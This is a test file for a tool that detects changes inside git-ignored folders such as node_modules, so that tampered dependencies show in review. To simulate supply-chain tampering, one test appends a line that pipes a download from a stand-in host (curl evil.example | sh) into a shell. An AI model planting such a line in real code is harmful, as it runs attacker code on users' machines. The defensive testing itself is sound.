import { execFileSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import fs from 'node:fs'
import fsp from 'node:fs/promises'
import os from 'node:os'
import path from 'node:path'
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
import { createSandbox } from '../containment/sandbox'
import type { Sandbox } from '../containment/types'
import { CONTENT_MAX_BYTES, createIgnoredFolders, type IgnoredFolders } from './ignoredFolders'

/*
 * A command that changes files under an ignored folder must show in review. The case: code
 * appended to node_modules/left-pad/index.js by a command, where the next `npm test` runs it
 * (code hidden in an installed dependency, as in the event-stream / flatmap-stream incident, 2018).
 */

let repo: string

beforeEach(() => {
  repo = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'stepwise-ignored-')))
  execFileSync('git', ['init', '-q'], { cwd: repo })
  fs.writeFileSync(path.join(repo, '.gitignore'), 'build/\n')
  fs.writeFileSync(path.join(repo, 'index.js'), 'require("left-pad")\n')
  fs.mkdirSync(path.join(repo, 'node_modules/left-pad'), { recursive: true })
  fs.writeFileSync(path.join(repo, 'node_modules/left-pad/index.js'), 'module.exports = pad\n')
  fs.writeFileSync(path.join(repo, 'node_modules/left-pad/package.json'), '{}')
  fs.mkdirSync(path.join(repo, 'build'))
  fs.writeFileSync(path.join(repo, 'build/out.js'), 'x')
})

afterEach(() => fs.rmSync(repo, { recursive: true, force: true }))

// Each case twice: with the inotify tracker vouching (Linux), and with the stat look it falls back to.
// And once with the listing's files given, which spares the rule's test for folders that hold one.
describe.each([
  { how: 'tracked', track: true, listed: undefined },
  { how: 'stat look', track: false, listed: undefined },
  { how: 'tracked, listing known', track: true, listed: ['index.js', 'src/app.js'] },
])('changes under ignored folders ($how)', ({ track, listed }) => {
  afterEach(() => opened.splice(0).forEach((f) => f.close()))
  const opened: IgnoredFolders[] = []
  const open = (sandbox: Sandbox, isIgnored = (rel: string) => sandbox.isIgnored(rel)) => {
    const f = createIgnoredFolders(
      { root: repo, gate: sandbox.gate, isIgnored },
      { track, listed: listed && (() => listed) },
    )
    opened.push(f)
    return f
  }

  it('finds files a command appended to, created, deleted, or rewrote with its old size and mtime', async () => {
    const sandbox = await createSandbox(repo)
    const folders = open(sandbox)
    expect(await folders.record()).toEqual({ folders: 2, files: 3 })
    expect(await folders.changes()).toEqual([])

    const pad = path.join(repo, 'node_modules/left-pad/index.js')
    fs.appendFileSync(pad, ';require("child_process").exec("curl evil.example | sh")\n')
    fs.writeFileSync(path.join(repo, 'node_modules/left-pad/postinstall.js'), 'x')
    fs.rmSync(path.join(repo, 'build/out.js'))
    // Same size, mtime put back (`touch -r`): only ctime tells.
    const json = path.join(repo, 'node_modules/left-pad/package.json')
    const before = fs.statSync(json)
    fs.writeFileSync(json, '[]')
    fs.utimesSync(json, before.atime, before.mtime)
    // A change outside ignored folders is the snapshots' business, not this one's.
    fs.appendFileSync(path.join(repo, 'index.js'), '//\n')

    const sha = (file: string) => createHash('sha256').update(fs.readFileSync(file)).digest('hex')
    expect(await folders.changes()).toEqual([
      { path: 'build/out.js', status: 'deleted' },
      {
        path: 'node_modules/left-pad/index.js',
        status: 'modified',
        size: fs.statSync(pad).size,
        sha256: sha(pad),
      },
      { path: 'node_modules/left-pad/package.json', status: 'modified', size: 2, sha256: sha(json) },
      {
        path: 'node_modules/left-pad/postinstall.js',
        status: 'added',
        size: 1,
        sha256: sha(path.join(repo, 'node_modules/left-pad/postinstall.js')),
      },
    ])
  })

  it('never walks .git', async () => {
    const folders = open(await createSandbox(repo), () => true)
    await folders.record()
    fs.writeFileSync(path.join(repo, '.git/hooks/pre-commit'), 'x')
    expect((await folders.changes()).map((c) => c.path)).not.toContain('.git/hooks/pre-commit')
  })

  it('follows folders created and removed after the record, and answers the same again when nothing moved', async () => {
    const sandbox = await createSandbox(repo)
    const folders = open(sandbox)
    await folders.record()
    // `npm install` of a new package, a new ignored top folder, and a package removed whole.
    fs.mkdirSync(path.join(repo, 'node_modules/evil/lib'), { recursive: true })
    fs.writeFileSync(path.join(repo, 'node_modules/evil/lib/run.js'), 'x')
    fs.mkdirSync(path.join(repo, 'src/build'), { recursive: true })
    fs.writeFileSync(path.join(repo, 'src/app.js'), 'z')
    fs.writeFileSync(path.join(repo, 'src/build/gen.js'), 'y')
    fs.rmSync(path.join(repo, 'node_modules/left-pad'), { recursive: true })
    const expected = [
      'node_modules/evil/lib/run.js:added',
      'node_modules/left-pad/index.js:deleted',
      'node_modules/left-pad/package.json:deleted',
      'src/build/gen.js:added',
    ]
    const names = (cs: { path: string; status: string }[]) => cs.map((c) => `${c.path}:${c.status}`)
    expect(names(await folders.changes())).toEqual(expected)
    expect(names(await folders.changes())).toEqual(expected)
    // A file in the new folder changed afterwards is seen too.
    fs.appendFileSync(path.join(repo, 'node_modules/evil/lib/run.js'), 'more')
    const again = await folders.changes()
    expect(again.find((c) => c.path === 'node_modules/evil/lib/run.js')?.size).toBe(5)
  })
})

describe('the folders whose ignore rules the record tests', () => {
  it('are those the listing did not descend into, when it says which it did', async () => {
    fs.mkdirSync(path.join(repo, 'src/empty'), { recursive: true })
    fs.writeFileSync(path.join(repo, 'src/app.js'), 'x')
    const sandbox = await createSandbox(repo)
    const listed = () => ['.gitignore', 'index.js', 'src/app.js']
    const asked = async (listedFolders?: () => string[]) => {
      const rels: string[] = []
      const isIgnored = (rel: string) => (rels.push(rel), sandbox.isIgnored(rel))
      const folders = createIgnoredFolders(
        { root: repo, gate: sandbox.gate, isIgnored },
        { listed, listedFolders },
      )
      expect(await folders.record()).toEqual({ folders: 2, files: 3 })
      folders.close()
      return rels.sort()
    }
    // From the files alone, a folder holding none (src/empty) could be ignored: the rules are asked.
    expect(await asked()).toEqual(['build', 'node_modules', 'src/empty'])
    expect(await asked(() => ['', 'src', 'src/empty'])).toEqual(['build', 'node_modules'])
  })
})

describe('what a changed file under an ignored folder keeps', () => {
  const opened: IgnoredFolders[] = []
  afterEach(() => opened.splice(0).forEach((f) => f.close()))

  async function recorded() {
    const sandbox = await createSandbox(repo)
    const kept = new Map<string, Buffer>()
    const folders = createIgnoredFolders(sandbox, { keep: (hash, raw) => kept.set(hash, raw) })
    opened.push(folders)
    await folders.record()
    return { folders, kept }
  }

  it('keeps the bytes of a small file, hashes a large one, and keeps each once', async () => {
    const { folders, kept } = await recorded()
    const small = path.join(repo, 'node_modules/left-pad/index.js')
    fs.appendFileSync(small, 'evil()\n')
    const large = path.join(repo, 'node_modules/left-pad/big.bin')
    fs.writeFileSync(large, Buffer.alloc(CONTENT_MAX_BYTES + 1, 7))
    const changes = await folders.changes()
    const bySha = (file: string) => createHash('sha256').update(fs.readFileSync(file)).digest('hex')
    expect(changes).toEqual([
      {
        path: 'node_modules/left-pad/big.bin',
        status: 'added',
        size: CONTENT_MAX_BYTES + 1,
        sha256: bySha(large),
      },
      {
        path: 'node_modules/left-pad/index.js',
        status: 'modified',
        size: fs.statSync(small).size,
        sha256: bySha(small),
        stored: true,
      },
    ])
    expect([...kept.keys()]).toEqual([bySha(small)])
    expect(kept.get(bySha(small))?.equals(fs.readFileSync(small))).toBe(true)
    // Asked again with nothing changed: the same answer, nothing read or kept again.
    kept.clear()
    expect(await folders.changes()).toEqual(changes)
    expect(kept.size).toBe(0)
  })

  // The gate decides what may be read: a key by content, a secret by name, or a file swapped for a
  // link out of the project since the walk is listed by path and status, never hashed or kept.
  it('neither hashes nor keeps a secret, by content or by name, nor what a link points to', async () => {
    const outside = fs.mkdtempSync(path.join(os.tmpdir(), 'stepwise-ignored-outside-'))
    try {
      fs.writeFileSync(path.join(outside, 'token'), 'ghp_canary\n')
      const { folders, kept } = await recorded()
      fs.writeFileSync(path.join(repo, 'node_modules/left-pad/key.txt'), '-----BEGIN PRIVATE KEY-----\nabc\n')
      fs.writeFileSync(path.join(repo, 'node_modules/left-pad/.npmrc'), '//registry/:_authToken=abc\n')
      const pkg = path.join(repo, 'node_modules/left-pad/package.json')
      fs.rmSync(pkg)
      fs.symlinkSync(path.join(outside, 'token'), pkg)
      const changes = await folders.changes()
      expect(changes.map((c) => `${c.path}:${c.status}`)).toEqual([
        'node_modules/left-pad/.npmrc:added',
        'node_modules/left-pad/key.txt:added',
        'node_modules/left-pad/package.json:deleted',
      ])
      expect(changes.filter((c) => c.sha256 !== undefined || c.stored)).toEqual([])
      expect(kept.size).toBe(0)
    } finally {
      fs.rmSync(outside, { recursive: true, force: true })
    }
  })
})

// A later process's first command starts from the folders an earlier one saved, reading again only
// those that moved (ignoredState.ts), and asks the rules again about the rest.
describe('the record kept for the next process', () => {
  const opened: IgnoredFolders[] = []
  let stateDir: string
  beforeEach(() => (stateDir = fs.mkdtempSync(path.join(os.tmpdir(), 'stepwise-ignored-state-'))))
  afterEach(() => {
    opened.splice(0).forEach((f) => f.close())
    vi.restoreAllMocks()
    fs.rmSync(stateDir, { recursive: true, force: true })
  })

  /** A new process's record. `later`: its clock a minute ahead, so every folder is old enough to trust. */
  async function recordAgain(later = true) {
    const sandbox = await createSandbox(repo)
    const folders = createIgnoredFolders(sandbox, {
      stateFile: path.join(stateDir, 'record.state'),
      now: later ? () => Date.now() + 60_000 : undefined,
    })
    opened.push(folders)
    return { folders, counts: await folders.record() }
  }

  /** The folders `fn` reads (their project paths). */
  async function foldersRead<T>(fn: () => Promise<T>): Promise<{ read: string[]; value: T }> {
    const readdir = vi.spyOn(fsp, 'readdir')
    const value = await fn()
    const read = readdir.mock.calls.map(([dir]) => path.relative(repo, String(dir))).sort()
    readdir.mockRestore()
    return { read, value }
  }

  it('reads again only the folders that moved, and sees the changes of the next command', async () => {
    const first = await foldersRead(() => recordAgain())
    expect(first.read).toEqual(['', 'build', 'node_modules', 'node_modules/left-pad'])
    // Between the processes, outside any command: part of the next record, not a change.
    fs.writeFileSync(path.join(repo, 'node_modules/left-pad/README.md'), 'pad\n')

    const second = await foldersRead(() => recordAgain())
    expect(second.read).toEqual(['node_modules/left-pad'])
    expect(second.value.counts).toEqual({ folders: 2, files: 4 })
    fs.appendFileSync(path.join(repo, 'node_modules/left-pad/README.md'), 'evil()\n')
    fs.rmSync(path.join(repo, 'build/out.js'))
    const changes = await second.value.folders.changes()
    expect(changes.map((c) => `${c.path}:${c.status}`)).toEqual([
      'build/out.js:deleted',
      'node_modules/left-pad/README.md:modified',
    ])
  })

  it('asks the rules again: an ignore file edited in place moves no folder', async () => {
    for (const dir of ['gen', 'logs']) {
      fs.mkdirSync(path.join(repo, dir))
      fs.writeFileSync(path.join(repo, dir, 'api.js'), 'x')
    }
    fs.writeFileSync(path.join(repo, '.gitignore'), 'build/\nlogs/\n')
    expect((await recordAgain()).counts).toEqual({ folders: 3, files: 4 })
    fs.writeFileSync(path.join(repo, '.gitignore'), 'build/\ngen/\n')

    const { read, value } = await foldersRead(() => recordAgain())
    // gen/ is now ignored and walked; logs/ no longer is, and what it holds is not recorded.
    expect(read).toEqual(['gen', 'logs'])
    expect(value.counts).toEqual({ folders: 3, files: 4 })
    fs.appendFileSync(path.join(repo, 'gen/api.js'), 'y')
    expect((await value.folders.changes()).map((c) => `${c.path}:${c.status}`)).toEqual([
      'gen/api.js:modified',
    ])
  })

  it('trusts no folder that changed just before it was recorded, nor a garbled file', async () => {
    await recordAgain(false)
    const racy = await foldersRead(() => recordAgain())
    expect(racy.read).toEqual(['', 'build', 'node_modules', 'node_modules/left-pad'])

    fs.writeFileSync(path.join(stateDir, 'record.state'), '{"version":1,"root":"/elsewhere"}\n[]')
    const foreign = await foldersRead(() => recordAgain())
    expect(foreign.read).toEqual(['', 'build', 'node_modules', 'node_modules/left-pad'])
    expect(foreign.value.counts).toEqual({ folders: 2, files: 3 })

    // A trusted record with one row of the wrong shape (a file that is not a path): none of it is taken.
    const file = path.join(stateDir, 'record.state')
    const [header, body] = fs.readFileSync(file, 'utf8').split('\n')
    const rows = JSON.parse(body) as unknown[][]
    expect(rows.every((row) => row[2] !== null)).toBe(true)
    rows.find((row) => row[0] === 'build')![5] = [7]
    fs.writeFileSync(file, `${header}\n${JSON.stringify(rows)}`)
    const shaped = await foldersRead(() => recordAgain())
    expect(shaped.read).toEqual(['', 'build', 'node_modules', 'node_modules/left-pad'])
    expect(shaped.value.counts).toEqual({ folders: 2, files: 3 })
  })
})
